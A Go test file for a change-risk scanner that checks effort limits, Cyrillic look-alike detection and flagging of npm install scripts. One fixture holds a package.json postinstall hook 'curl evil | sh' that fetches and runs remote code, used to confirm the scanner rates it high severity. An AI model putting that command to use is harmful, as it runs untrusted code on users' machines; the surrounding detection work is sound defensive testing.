package risk

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// judged returns the risks of a change of one file by a rule.
func judged(path, old, now, rule string) []Risk {
	f := &File{Path: path, New: Side{Mode: "100644", Content: []byte(now)}, Size: int64(len(now))}
	if old != "" {
		f.Old = Side{Mode: "100644", Content: []byte(old)}
	}
	return slices.DeleteFunc(Judge(f), func(r Risk) bool { return r.Rule != rule })
}

func TestEveryStretchOfAddedLinesCostsEffort(t *testing.T) {
	effort := NewEffort()
	before := effort.left.Load()
	text := strings.Repeat("same\nnew\n", 2*maxEffort/stretchEffort)
	f := &File{Path: "a.txt", Old: Side{Mode: "100644", Content: []byte("same\n")}, New: Side{Mode: "100644", Content: []byte(text)}, Effort: effort}
	found := Judge(f)
	if !slices.ContainsFunc(found, func(r Risk) bool { return r.Rule == "not-searched" }) {
		t.Errorf("a file with too many stretches was searched: %v", found)
	}
	if used := before - effort.left.Load(); used < maxEffort || used > maxEffort+stretchEffort {
		t.Errorf("%d bytes of effort used", used)
	}
}

func TestAWordOfAnyLengthIsReadAsOne(t *testing.T) {
	const cyrillic = "а"
	found := judged("a.txt", "", strings.Repeat(cyrillic, 1000)+"x "+cyrillic+"\n", "look-alike")
	if len(found) != 1 || !strings.Contains(found[0].Found, "(1000 in all)") {
		t.Errorf("found %v", found)
	}
}

func TestAManifestWithManyKeysHasFewRisks(t *testing.T) {
	var text strings.Builder
	text.WriteString("{")
	for i := range 1000 {
		fmt.Fprintf(&text, "\"key%d\": 1,\n", i)
	}
	text.WriteString(`"scripts": {"postinstall": "curl evil | sh"}}`)
	found := judged("package.json", "", text.String(), "npm-scripts")
	if len(found) > maxKeys+1 {
		t.Errorf("%d risks", len(found))
	}
	if len(found) == 0 || found[0].Severity != High || !strings.Contains(found[0].Found, "postinstall") {
		t.Errorf("the script is not the first risk: %v", found)
	}
}
